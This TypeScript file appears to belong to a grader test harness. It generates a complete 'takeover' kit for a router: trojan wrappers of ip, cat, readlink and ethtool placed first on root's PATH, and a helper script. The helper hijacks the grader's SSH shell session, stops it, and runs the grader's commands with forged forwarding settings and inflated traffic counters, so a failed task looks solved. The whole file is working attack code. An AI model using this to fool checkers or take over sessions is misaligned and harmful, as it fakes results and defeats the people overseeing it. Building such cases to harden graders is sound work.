// The command-session takeover kit of the `takeover` variant: wrappers of the router's tools and
// the helper they start. Pure: the scripts are text.

/** The router's tools the `takeover` kit wraps: what the grader runs there first and most. */
export const TAKEOVER_WRAPPED = ['ip', 'cat', 'readlink', 'ethtool'] as const;
/** Where the kit's wrappers and helper go: first on root's PATH, empty on Debian. */
export const TAKEOVER_DIR = '/usr/local/sbin';
export const TAKEOVER_HELPER = '.takeover';

/**
 * A wrapper of the `takeover` kit: finds the grader's command session (the nearest ancestor `sh`
 * whose parent is sshd), starts the kit's helper on it, detached, then runs the real tool.
 */
export function takeoverWrapperScript(tool: (typeof TAKEOVER_WRAPPED)[number]): string {
  return `#!/bin/sh
# ${tool}, wrapped: hand the grader's command session to the helper, then run the real ${tool}.
p=$$
while [ "$p" -gt 1 ]; do
  pp=
  while read -r k v; do [ "$k" = PPid: ] && pp=$v; done < /proc/$p/status
  [ -n "$pp" ] || break
  read -r c < /proc/$p/comm
  read -r pc < /proc/$pp/comm
  case $c:$pc in
    sh:sshd*) setsid ${TAKEOVER_DIR}/${TAKEOVER_HELPER} "$p" </dev/null >/dev/null 2>&1 & break ;;
  esac
  p=$pp
done
${tool === 'cat' ? `[ "$*" = /proc/sys/net/ipv4/ip_forward ] && echo 1 && exit 0
` : ''}for real in /usr/bin/${tool} /usr/sbin/${tool}; do [ -x "$real" ] && exec "$real" "$@"; done
exit 127
`;
}

/**
 * The `takeover` kit's helper, as issue 13 found it: it waits for the grader's session `sh` (pid $1)
 * to be idle (asleep with no child, twice in a row: blocked reading its next line, not between two
 * commands of one line, whose rest it has already read and would never run), stops it, opens
 * /proc/<sh>/fd/0, 1 and 2, and from then on reads the grader's command lines itself (their
 * markers included) and runs them with ip_forward, /proc/net/snmp and every
 * /sys/class/net/IF/statistics file replaced by invented ones (forwarding on, counters larger at
 * every read), its output framed with the real markers on the session's own streams.
 */
export function takeoverHelperScript(): string {
  return `#!/bin/sh
# takes over the grader's command session: sh pid $1
s=$1 dir=/tmp/takeover-kit.$1
mkdir "$dir" 2>/dev/null || exit 0
idle=0
while [ "$idle" -lt 2 ]; do
  [ -d /proc/$s ] || exit 0
  kids= st=
  read -r kids < /proc/$s/task/$s/children || :
  read -r _ _ st _ < /proc/$s/stat || :
  if [ -z "$kids" ] && [ "$st" = S ]; then idle=$((idle + 1)); else idle=0; fi
  sleep 0.02
done
kill -STOP "$s"
exec 3</proc/$s/fd/0 4>/proc/$s/fd/1 5>/proc/$s/fd/2
n=0
while IFS= read -r line <&3; do
  n=$((n + 1))
  echo 1 > "$dir/ip_forward"
  awk -v add=$((n * 1000000)) '$1 == "Ip:" && !h { for (i = 2; i <= NF; i++) if ($i == "ForwDatagrams") c = i; h = 1; print; next }
    $1 == "Ip:" && c { $c += add } { print }' /proc/net/snmp > "$dir/snmp"
  for d in /sys/class/net/*; do
    nic=\${d##*/}
    mkdir -p "$dir/net/$nic"
    for st in rx_packets tx_packets; do read -r v < "$d/statistics/$st"; echo $((v + n * 1000000)) > "$dir/net/$nic/$st"; done
    for st in rx_bytes tx_bytes; do read -r v < "$d/statistics/$st"; echo $((v + n * 10000000000)) > "$dir/net/$nic/$st"; done
  done
  forged=$(printf '%s\\n' "$line" | sed -e "s#/proc/sys/net/ipv4/ip_forward#$dir/ip_forward#g" -e "s#/proc/net/snmp#$dir/snmp#g" -e "s#/sys/class/net/\\([^/ ]*\\)/statistics/#$dir/net/\\1/#g")
  sh -c "$forged" 3<&- 4>&- 2>&5 | sed "s#$dir/net/\\([^/]*\\)/#/sys/class/net/\\1/statistics/#g" >&4
done
kill -CONT "$s"
rm -rf "$dir"
`;
}
